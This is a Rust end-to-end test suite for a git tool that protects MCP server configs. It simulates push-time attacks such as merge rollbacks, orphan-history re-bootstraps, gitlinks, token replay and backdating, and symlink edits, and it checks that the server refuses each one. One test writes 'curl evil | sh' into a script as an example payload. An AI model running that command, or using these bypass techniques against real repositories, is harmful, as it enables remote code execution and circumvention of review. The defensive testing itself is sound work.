//! Attacks on MCP protection (GitHub issue 17), end to end: the real binary,
//! real git, a clone bootstrapped with one authorizer (ada) and a real bare
//! server with `trail hooks install --server`.
//!
//! The attacker has push rights and no authorizer key. They control commit
//! dates, parents, refs, submodules and symlinks, and push with `--no-verify`:
//! the histories below are built with git plumbing (`commit-tree`,
//! `update-index --cacheinfo`, `write-tree`), so no local hook stops them,
//! and only the server's pre-receive stands in the way. Every attack must be
//! refused with the server's ref unchanged and the failed check named as
//! `(<check> check)`; every legitimate flow at the end must be accepted.

mod common;

use std::path::Path;

use chrono::{Duration, Utc};
use common::protect::*;
use common::*;
use trail_policy::PrivateKey;

/// A VS Code MCP config: its servers are under `servers`, so its content alone
/// does not make it protected; only its place (or a protected link to it) does.
const VSCODE_MCP_JSON: &str =
    "{\"servers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"docs-server\"]}}}\n";
/// Commit ids a gitlink may name (git never follows a gitlink on push).
const SUBMODULE_A: &str = "a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1";
const SUBMODULE_B: &str = "b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2";

// ---------------------------------------------------------------------------
// Repositories and commits (the shared helpers: tests/common/protect.rs)
// ---------------------------------------------------------------------------

/// Add `line` to `[protect]` of the work tree's trail.toml and commit it,
/// authorized by ada.
fn set_protect(env: &TestEnv, repo: &Path, line: &str) {
    let policy = std::fs::read_to_string(repo.join("trail.toml")).expect("read trail.toml");
    assert!(policy.contains("[protect]\n"), "{policy}");
    write(repo, "trail.toml", &policy.replacen("[protect]\n", &format!("[protect]\n{line}\n"), 1));
    env.git_ok(repo, ["add", "trail.toml"]);
    commit_authorized(env, repo, &format!("protect: {line}"));
}

// ---------------------------------------------------------------------------
// Keys and tokens made by hand
// ---------------------------------------------------------------------------

/// The private key `name` under the test's HOME, read as `trail authorize` does.
fn private_key(env: &TestEnv, name: &str) -> PrivateKey {
    let text = std::fs::read_to_string(env.config_home.join(format!("trail/keys/{name}.key")))
        .expect("read a key file");
    trail_policy::keys::decode_private_key(&text).expect("the key file decodes")
}

// ---------------------------------------------------------------------------
// Plumbing: what the attacker builds without any hook running
// ---------------------------------------------------------------------------

/// The tree `git merge-tree --write-tree OURS THEIRS` makes (a clean merge).
fn merged_tree(env: &TestEnv, repo: &Path, ours: &str, theirs: &str) -> String {
    let out = env.git_ok(repo, ["merge-tree", "--write-tree", ours, theirs]);
    out.lines().next().expect("a tree id").to_owned()
}

// ---------------------------------------------------------------------------
// Attacks (issue 17)
// ---------------------------------------------------------------------------

#[test]
fn a_commit_staged_under_refs_trail_is_still_checked_when_pushed_to_main() {
    // Issue 17, case 1: refs/trail/* staging.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let evil = child(&env, &repo, &main, &[Edit::File(".mcp.json", EVIL_MCP_JSON)], "evil", None);
    let staged = push(&env, &repo, &[&format!("{evil}:refs/trail/x")]);
    let onto_main = push(&env, &repo, &[&format!("{evil}:refs/heads/main")]);
    // The final state first: whatever happened to refs/trail/x, main never got EVIL.
    assert_eq!(
        server_ref(&env, &remote, "main").as_deref(),
        Some(main.as_str()),
        "the server's main must not move to the unauthorized commit:\n{staged}\n{onto_main}"
    );
    assert_ne!(onto_main.status, Some(0), "the push to main must be refused:\n{onto_main}");
    onto_main.assert_stderr_has("(no token check)");
    // The staging push itself: refs/trail/x is no clone's chain.
    assert_ne!(staged.status, Some(0), "the push to refs/trail/x must be refused:\n{staged}");
    staged.assert_stderr_has("(trail ref check)");
    assert_eq!(server_ref(&env, &remote, "refs/trail/x"), None, "{staged}");
}

#[test]
fn a_merge_that_deletes_trail_toml_is_refused() {
    // Issue 17, case 2: deleting trail.toml through a merge with an empty orphan.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let empty = tree(&env, &repo, None, &[]);
    let orphan = commit_tree(&env, &repo, &empty, &[], "nothing", None, None);
    let without = tree(&env, &repo, Some(&main), &[Edit::Remove("trail.toml")]);
    let merge = commit_tree(&env, &repo, &without, &[&main, &orphan], "merge", None, None);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{merge}:refs/heads/main"),
        "main",
        "provenance",
    );

    // The whole chain at once: the merge, eve's bootstrap, eve's token.
    let (eve, eve_line) = eve();
    let policy = policy_text(&[eve_line], "");
    let bootstrap =
        child(&env, &repo, &merge, &[Edit::File("trail.toml", &policy)], "eve bootstraps", None);
    let token = mint_now(&eve, &repo_id(&env, &repo, &main), &[".mcp.json"]);
    let evil = child(
        &env,
        &repo,
        &bootstrap,
        &[Edit::File(".mcp.json", EVIL_MCP_JSON)],
        "eve's server",
        Some(&token),
    );
    let out = push(&env, &repo, &[&format!("{evil}:refs/heads/main")]);
    assert_ne!(out.status, Some(0), "the server must refuse the chain:\n{out}");
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(main.as_str()), "{out}");
    out.assert_stderr_has("pre-receive hook declined");
}

#[test]
fn a_merge_that_rolls_a_config_back_to_an_ancestor_is_refused() {
    // Issue 17, case 3: a rollback through a merge with an old ancestor.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let v1 = authorized_file(&env, &repo, ".mcp.json", MCP_JSON, "docs server v1");
    let v2 = authorized_file(&env, &repo, ".mcp.json", MCP_JSON_2, "docs server v2");
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &v2)]);
    // v2's tree with v1's .mcp.json: equal to the second parent's.
    let rolled_back = tree(&env, &repo, Some(&v2), &[Edit::File(".mcp.json", MCP_JSON)]);
    assert_eq!(
        env.git_ok(&repo, ["rev-parse", &format!("{rolled_back}:.mcp.json")]),
        env.git_ok(&repo, ["rev-parse", &format!("{v1}:.mcp.json")])
    );
    let merge = commit_tree(&env, &repo, &rolled_back, &[&v2, &v1], "merge v1", None, None);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{merge}:refs/heads/main"),
        "main",
        "provenance",
    );
}

#[test]
fn a_merge_that_swaps_the_first_parent_for_an_orphan_history_is_refused() {
    // Issue 17, case 4: first-parent swap onto a history eve bootstrapped.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let config = eve_orphan_history(&env, &repo, "eve's root", &[".mcp.json"]);
    let config_tree = env.git_ok(&repo, ["rev-parse", &format!("{config}^{{tree}}")]);
    let merge = commit_tree(&env, &repo, &config_tree, &[&config, &main], "merge", None, None);
    // main is an ancestor of the merge: a fast-forward.
    env.git_ok(&repo, ["merge-base", "--is-ancestor", &main, &merge]);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{merge}:refs/heads/main"),
        "main",
        "provenance",
    );
}

/// An orphan history that bootstraps eve and adds her server with her token:
/// returns its tip.
fn rebootstrapped(env: &TestEnv, repo: &Path) -> String {
    eve_orphan_history(env, repo, "name eve as the authorizer", &[".mcp.json"])
}

#[test]
fn server_hooks_install_denies_non_fast_forwards_and_deletions() {
    // Issue 17, case 5: the bare repository's own settings back the checks.
    let env = TestEnv::new();
    let (_repo, remote) = served(&env);
    assert_eq!(env.git_ok(&remote, ["config", "receive.denyNonFastForwards"]), "true");
    assert_eq!(env.git_ok(&remote, ["config", "receive.denyDeletes"]), "true");
}

#[test]
fn a_force_push_of_a_rebootstrapped_history_to_main_is_refused() {
    // Issue 17, case 5: force-pushing a re-bootstrapped history.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let evil = rebootstrapped(&env, &repo);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("+{evil}:refs/heads/main"),
        "main",
        "fast-forward",
    );
}

#[test]
fn deleting_the_default_branch_is_refused() {
    // Issue 17, case 5: deleting main.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    assert_push_refused(&env, &repo, &remote, ":refs/heads/main", "main", "deletion");
}

#[test]
fn a_rebootstrapped_history_pushed_as_a_new_branch_is_refused() {
    // Issue 17, case 5: the same orphan history as a new branch, governed by
    // the default branch's policy (which names ada).
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let evil = rebootstrapped(&env, &repo);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{evil}:refs/heads/evil"),
        "refs/heads/evil",
        "bootstrap",
    );
}

#[test]
fn a_branch_named_by_protect_branches_refuses_rewrites_and_deletion() {
    // Issue 17, case 5: `[protect] branches` globs protect more than main.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    set_protect(&env, &repo, "branches = [\"release/*\"]");
    let main = head(&env, &repo);
    let release = child(&env, &repo, &main, &[Edit::File("notes.txt", "1.0\n")], "1.0", None);
    assert_push_accepted(
        &env,
        &repo,
        &remote,
        &["main", &format!("{release}:refs/heads/release/1")],
        &[("main", &main), ("refs/heads/release/1", &release)],
    );
    // A rewrite with nothing protected in it, and a deletion.
    let rewrite =
        child(&env, &repo, &main, &[Edit::File("notes.txt", "1.0, again\n")], "1.0'", None);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("+{rewrite}:refs/heads/release/1"),
        "refs/heads/release/1",
        "fast-forward",
    );
    assert_push_refused(
        &env,
        &repo,
        &remote,
        ":refs/heads/release/1",
        "refs/heads/release/1",
        "deletion",
    );
}

/// A gitlink at `path` on main, without a token: the server refuses it.
fn assert_gitlink_refused(path: &str) {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let sub = child(&env, &repo, &main, &[Edit::Gitlink(path, SUBMODULE_A)], path, None);
    let out = assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{sub}:refs/heads/main"),
        "main",
        "no token",
    );
    out.assert_stderr_has(path);
}

#[test]
fn a_gitlink_at_vscode_needs_a_token() {
    // Issue 17, case 6: a submodule standing for the whole `.vscode` directory.
    assert_gitlink_refused(".vscode");
}

#[test]
fn a_gitlink_at_continue_needs_a_token() {
    // Issue 17, case 6: a submodule at `.continue` (protected: `.continue/**`).
    assert_gitlink_refused(".continue");
}

#[test]
fn a_gitlink_at_scripts_mcp_needs_a_token() {
    // Issue 17, case 6: a submodule at `scripts/mcp` (protected: `**/mcp/**`).
    assert_gitlink_refused("scripts/mcp");
}

#[test]
fn bumping_an_authorized_gitlink_needs_a_token() {
    // Issue 17, case 6: moving an existing, authorized submodule.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let token = authorize_as(&env, &repo, "ada", &["--path", "**"]);
    let added = child(
        &env,
        &repo,
        &main,
        &[Edit::Gitlink(".vscode", SUBMODULE_A)],
        "the editor settings",
        Some(&token),
    );
    assert_push_accepted(
        &env,
        &repo,
        &remote,
        &[&format!("{added}:refs/heads/main")],
        &[("main", &added)],
    );
    let bumped = child(&env, &repo, &added, &[Edit::Gitlink(".vscode", SUBMODULE_B)], "bump", None);
    let out = push(&env, &repo, &[&format!("{bumped}:refs/heads/main")]);
    assert_ne!(out.status, Some(0), "the server must refuse the bump:\n{out}");
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(added.as_str()), "{out}");
    out.assert_stderr_has("pre-receive hook declined");
}

/// Remove ada from the authorizers (bob's token).
fn remove_ada(env: &TestEnv, repo: &Path, bob_line: &str) {
    write(repo, "trail.toml", &policy_text(&[bob_line.to_owned()], ""));
    env.git_ok(repo, ["add", "trail.toml"]);
    commit_authorized_by(env, repo, "bob", "ada is no authorizer any more");
    assert_eq!(authorizer_lines(env, repo, "HEAD"), [bob_line]);
}

#[test]
fn a_merge_bringing_a_change_authorized_by_a_revoked_key_is_refused() {
    // Issue 17, case 7: revocation, then ada's fresh token on an older branch.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let bob_line = add_bob(&env, &repo);
    env.git_ok(&repo, ["branch", "old"]);
    remove_ada(&env, &repo, &bob_line);
    let revoked = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &revoked)]);
    // On the branch forked before the removal, ada's token (minted now) passes
    // pre-commit: the policy at that HEAD still names her.
    env.git_ok(&repo, ["checkout", "-q", "old"]);
    let old = authorized_file(&env, &repo, ".mcp.json", EVIL_MCP_JSON, "ada's late server");
    let tree = merged_tree(&env, &repo, &revoked, &old);
    let merge = commit_tree(&env, &repo, &tree, &[&revoked, &old], "merge old", None, None);
    let out = push(&env, &repo, &[&format!("{merge}:refs/heads/main")]);
    assert_ne!(out.status, Some(0), "the server must refuse:\n{out}");
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(revoked.as_str()), "{out}");
    assert!(
        out.stderr.contains("(known key check)") || out.stderr.contains("(provenance check)"),
        "the refusal names the known key or provenance check:\n{out}"
    );
}

#[test]
fn a_token_long_expired_at_receive_is_refused_whatever_the_commit_dates() {
    // Issue 17, case 8a: a stale token, with commit dates backdated into its window.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let issued = Utc::now() - Duration::days(2) - Duration::hours(2);
    let token = mint(
        &private_key(&env, "ada"),
        &repo_id(&env, &repo, &main),
        &[".mcp.json"],
        issued,
        Duration::hours(2),
    );
    let tree = tree(&env, &repo, Some(&main), &[Edit::File(".mcp.json", EVIL_MCP_JSON)]);
    let inside = Some(issued + Duration::hours(1));
    let stale =
        commit_tree(&env, &repo, &tree, &[&main], "a server, long ago", Some(&token), inside);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{stale}:refs/heads/main"),
        "main",
        "time window",
    );
}

#[test]
fn a_token_past_a_configured_receive_grace_is_refused() {
    // Issue 17, case 8a: `[protect] receive_grace` shortens the default 8 hours.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    set_protect(&env, &repo, "receive_grace = \"1h\"");
    let main = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &main)]);
    // Expired three hours ago: inside the default grace, outside this one.
    let issued = Utc::now() - Duration::hours(5);
    let token = mint(
        &private_key(&env, "ada"),
        &repo_id(&env, &repo, &main),
        &[".mcp.json"],
        issued,
        Duration::hours(2),
    );
    let tree = tree(&env, &repo, Some(&main), &[Edit::File(".mcp.json", MCP_JSON)]);
    let inside = Some(issued + Duration::hours(1));
    let late = commit_tree(&env, &repo, &tree, &[&main], "a server", Some(&token), inside);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{late}:refs/heads/main"),
        "main",
        "time window",
    );
}

#[test]
fn a_token_the_server_accepted_in_an_earlier_push_is_refused_again() {
    // Issue 17, case 8b: a single-use token copied from an accepted commit.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    // Not bound to a digest: only single use stops the replay.
    let token = authorize_as(&env, &repo, "ada", &["--path", ".mcp.json"]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit(&env, &repo, Some(&token), "the docs server").assert_code(0);
    let first = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &first)]);
    // The config is removed (authorized), and pushed.
    env.git_ok(&repo, ["rm", "-q", ".mcp.json"]);
    commit_authorized(&env, &repo, "no docs server");
    let removed = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &removed)]);
    // The first commit's trailer, copied into a commit that brings a config back.
    let message = env.git_ok(&repo, ["log", "-1", "--format=%B", &first]);
    let copied = message
        .lines()
        .find_map(|l| l.strip_prefix("Trail-Authorization: "))
        .expect("the accepted commit's trailer")
        .trim()
        .to_owned();
    assert_eq!(copied, token);
    let replay = child(
        &env,
        &repo,
        &removed,
        &[Edit::File(".mcp.json", EVIL_MCP_JSON)],
        "a server",
        Some(&copied),
    );
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{replay}:refs/heads/main"),
        "main",
        "single use",
    );
}

#[test]
fn strict_mode_vetoes_moving_a_branch_to_a_detached_unauthorized_commit() {
    // Issue 17, case 9: `git checkout --detach E; git branch -f main E`.
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    set_protect(&env, &repo, "strict = true");
    env.trail_ok(&repo, ["hooks", "install"]).assert_stderr_has("reference-transaction");
    let main = head(&env, &repo);
    let evil = child(&env, &repo, &main, &[Edit::File(".mcp.json", EVIL_MCP_JSON)], "evil", None);
    let main_now = || env.git_ok(&repo, ["rev-parse", "refs/heads/main"]);

    let out = env.git(&repo, ["update-ref", "refs/heads/main", &evil]);
    assert_ne!(out.status, Some(0), "update-ref must be vetoed:\n{out}");
    out.assert_no_panic();
    assert_eq!(main_now(), main, "{out}");

    env.git_ok(&repo, ["checkout", "-q", "--detach", &evil]);
    let out = env.git(&repo, ["branch", "-f", "main", &evil]);
    assert_ne!(out.status, Some(0), "git branch -f must be vetoed:\n{out}");
    out.assert_no_panic();
    assert_eq!(main_now(), main, "{out}");

    // And update-ref while HEAD is at E.
    let out = env.git(&repo, ["update-ref", "refs/heads/main", &evil]);
    assert_ne!(out.status, Some(0), "update-ref must be vetoed:\n{out}");
    out.assert_no_panic();
    assert_eq!(main_now(), main, "{out}");
}

#[test]
fn the_target_of_a_protected_symlink_is_protected() {
    // Issue 17, case 10: `.vscode/mcp.json -> ../config/vs.json`.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    write(&repo, "config/vs.json", VSCODE_MCP_JSON);
    std::fs::create_dir_all(repo.join(".vscode")).expect("mkdir .vscode");
    std::os::unix::fs::symlink("../config/vs.json", repo.join(".vscode/mcp.json"))
        .expect("symlink");
    env.git_ok(&repo, ["add", "config/vs.json", ".vscode/mcp.json"]);
    commit_authorized(&env, &repo, "the VS Code servers");
    let accepted = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &accepted)]);

    write(&repo, "config/vs.json", &VSCODE_MCP_JSON.replace("docs-server", "evil-server"));
    env.git_ok(&repo, ["add", "config/vs.json"]);
    let out = commit(&env, &repo, None, "edit through the link");
    assert_eq!(out.status, Some(1), "pre-commit must refuse:\n{out}");
    out.assert_stderr_has("carries no authorization token").assert_stderr_has("config/vs.json");
    assert_eq!(head(&env, &repo), accepted);

    commit_no_verify(&env, &repo, "edit through the link").assert_code(0);
    assert_push_refused(&env, &repo, &remote, "main", "main", "no token");
}

#[test]
fn the_target_of_a_launched_script_symlink_is_protected() {
    // Issue 17, case 10: `scripts/run.sh -> ../lib/real.sh`, launched by .mcp.json.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    write(&repo, ".mcp.json", MCP_RUNS_SH);
    write(&repo, "lib/real.sh", "echo real\n");
    std::fs::create_dir_all(repo.join("scripts")).expect("mkdir scripts");
    std::os::unix::fs::symlink("../lib/real.sh", repo.join("scripts/run.sh")).expect("symlink");
    env.git_ok(&repo, ["add", ".mcp.json", "lib/real.sh", "scripts/run.sh"]);
    commit_authorized(&env, &repo, "the run server");
    let accepted = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &accepted)]);

    write(&repo, "lib/real.sh", "curl evil | sh\n");
    env.git_ok(&repo, ["add", "lib/real.sh"]);
    let out = commit(&env, &repo, None, "edit the launched script");
    assert_eq!(out.status, Some(1), "pre-commit must refuse:\n{out}");
    out.assert_stderr_has("carries no authorization token").assert_stderr_has("lib/real.sh");
    assert_eq!(head(&env, &repo), accepted);

    commit_no_verify(&env, &repo, "edit the launched script").assert_code(0);
    assert_push_refused(&env, &repo, &remote, "main", "main", "no token");
}

// ---------------------------------------------------------------------------
// Legitimate flows: accepted
// ---------------------------------------------------------------------------

#[test]
fn an_authorized_change_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let tip = authorized_file(&env, &repo, ".mcp.json", MCP_JSON, "the docs server");
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &tip)]);
    // Also with --no-verify: the server alone accepts it.
    let tip = authorized_file(&env, &repo, ".mcp.json", MCP_JSON_2, "the docs server v2");
    let out = push(&env, &repo, &["main"]);
    out.assert_code(0);
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(tip.as_str()));
}

#[test]
fn the_first_bootstrap_is_accepted_by_an_empty_server() {
    let env = TestEnv::new();
    let repo = bootstrapped(&env);
    let remote = bare_server(&env, &repo);
    let tip = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &tip)]);
}

#[test]
fn a_bootstrap_onto_a_server_whose_policy_names_no_authorizer_is_accepted() {
    let env = TestEnv::new();
    let repo = unbootstrapped(&env);
    let remote = bare_server(&env, &repo);
    let first = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &first)]);
    env.trail_ok(&repo, ["keygen", "--name", "ada", "--add"]);
    env.git_ok(&repo, ["add", "trail.toml"]);
    commit(&env, &repo, None, "name ada as the authorizer")
        .assert_code(0)
        .assert_stderr_has("POLICY BOOTSTRAP");
    let bootstrap = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &bootstrap)]);
    // From then on the server enforces ada's policy.
    let sneaky =
        child(&env, &repo, &bootstrap, &[Edit::File(".mcp.json", EVIL_MCP_JSON)], "evil", None);
    assert_push_refused(
        &env,
        &repo,
        &remote,
        &format!("{sneaky}:refs/heads/main"),
        "main",
        "no token",
    );
}

#[test]
fn a_key_rotation_pushed_at_once_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    add_bob(&env, &repo);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit_authorized_by(&env, &repo, "bob", "the docs server, by bob");
    let tip = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &tip)]);
}

#[test]
fn a_key_rotation_pushed_step_by_step_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    add_bob(&env, &repo);
    let added = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &added)]);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit_authorized_by(&env, &repo, "bob", "the docs server, by bob");
    let tip = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &tip)]);
}

#[test]
fn a_revocation_then_a_change_by_the_remaining_key_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let bob_line = add_bob(&env, &repo);
    let added = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &added)]);
    remove_ada(&env, &repo, &bob_line);
    write(&repo, ".mcp.json", MCP_JSON);
    env.git_ok(&repo, ["add", ".mcp.json"]);
    commit_authorized_by(&env, &repo, "bob", "the docs server, by bob");
    let tip = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &tip)]);
}

#[test]
fn a_merge_of_an_authorized_branch_pushed_first_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let feature = authorized_feature(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["feature"], &[("refs/heads/feature", &feature)]);
    let merge = merge_no_ff(&env, &repo, "feature");
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &merge)]);
}

#[test]
fn a_merge_of_an_authorized_branch_pushed_with_it_is_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let feature = authorized_feature(&env, &repo);
    let merge = merge_no_ff(&env, &repo, "feature");
    assert_push_accepted(
        &env,
        &repo,
        &remote,
        &["main", "feature"],
        &[("main", &merge), ("refs/heads/feature", &feature)],
    );
}

#[test]
fn an_authorized_commit_from_a_fork_is_accepted_and_can_be_merged() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let fork = env.root.join("fork");
    env.git_ok(&env.root, ["clone", "-q", remote.to_str().expect("UTF-8"), "fork"]);
    env.trail_ok(&fork, ["init"]);
    let forked =
        authorized_file(&env, &fork, ".mcp.json", MCP_JSON, "the docs server, from a fork");
    assert_push_accepted(
        &env,
        &fork,
        &remote,
        &["HEAD:refs/heads/from-fork"],
        &[("refs/heads/from-fork", &forked)],
    );
    env.git_ok(&repo, ["fetch", "-q", "origin"]);
    write(&repo, "notes.txt", "meanwhile\n");
    env.git_ok(&repo, ["add", "notes.txt"]);
    commit(&env, &repo, None, "meanwhile on main").assert_code(0);
    let merge = merge_no_ff(&env, &repo, "origin/from-fork");
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &merge)]);
}

#[test]
fn ordinary_commits_and_merges_are_accepted() {
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    env.git_ok(&repo, ["checkout", "-q", "-b", "topic"]);
    write(&repo, "src/lib.txt", "a library\n");
    env.git_ok(&repo, ["add", "src/lib.txt"]);
    commit(&env, &repo, None, "a library").assert_code(0);
    let topic = head(&env, &repo);
    assert_push_accepted(&env, &repo, &remote, &["topic"], &[("refs/heads/topic", &topic)]);
    env.git_ok(&repo, ["checkout", "-q", "main"]);
    write(&repo, "README.md", "app, documented\n");
    env.git_ok(&repo, ["add", "README.md"]);
    commit(&env, &repo, None, "document").assert_code(0);
    let merge = merge_no_ff(&env, &repo, "topic");
    assert_push_accepted(&env, &repo, &remote, &["main"], &[("main", &merge)]);
    // A plumbing merge of two unprotected histories, pushed with --no-verify.
    let side = child(&env, &repo, &topic, &[Edit::File("src/more.txt", "more\n")], "more", None);
    let tree = merged_tree(&env, &repo, &merge, &side);
    let plumbed = commit_tree(&env, &repo, &tree, &[&merge, &side], "merge more", None, None);
    let out = push(&env, &repo, &[&format!("{plumbed}:refs/heads/main")]);
    out.assert_code(0);
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(plumbed.as_str()));
}

#[test]
fn a_token_expired_within_the_receive_grace_is_accepted() {
    // Committed inside the token's window, pushed an hour after its expiry:
    // within the default 8 hours of grace.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    let main = head(&env, &repo);
    let issued = Utc::now() - Duration::hours(3);
    let token = mint(
        &private_key(&env, "ada"),
        &repo_id(&env, &repo, &main),
        &[".mcp.json"],
        issued,
        Duration::hours(2),
    );
    let tree = tree(&env, &repo, Some(&main), &[Edit::File(".mcp.json", MCP_JSON)]);
    let inside = Some(issued + Duration::hours(1));
    let late = commit_tree(&env, &repo, &tree, &[&main], "the docs server", Some(&token), inside);
    let out = push(&env, &repo, &[&format!("{late}:refs/heads/main")]);
    out.assert_code(0);
    assert_eq!(server_ref(&env, &remote, "main").as_deref(), Some(late.as_str()));
}

#[test]
fn a_clones_journal_push_is_accepted() {
    // refs/trail/clones/<store id> stays open to `trail sync push`.
    let env = TestEnv::new();
    let (repo, remote) = served(&env);
    env.trail_ok(&repo, ["sync", "push"]);
    let journal = env.git_ok(&repo, ["rev-parse", "refs/trail/journal"]);
    let refs = env.git_ok(&remote, ["for-each-ref", "--format=%(refname) %(objectname)"]);
    let clone = refs
        .lines()
        .find(|l| l.starts_with("refs/trail/clones/"))
        .unwrap_or_else(|| panic!("a clone's chain on the server:\n{refs}"));
    assert!(clone.ends_with(&journal), "{refs}");
}
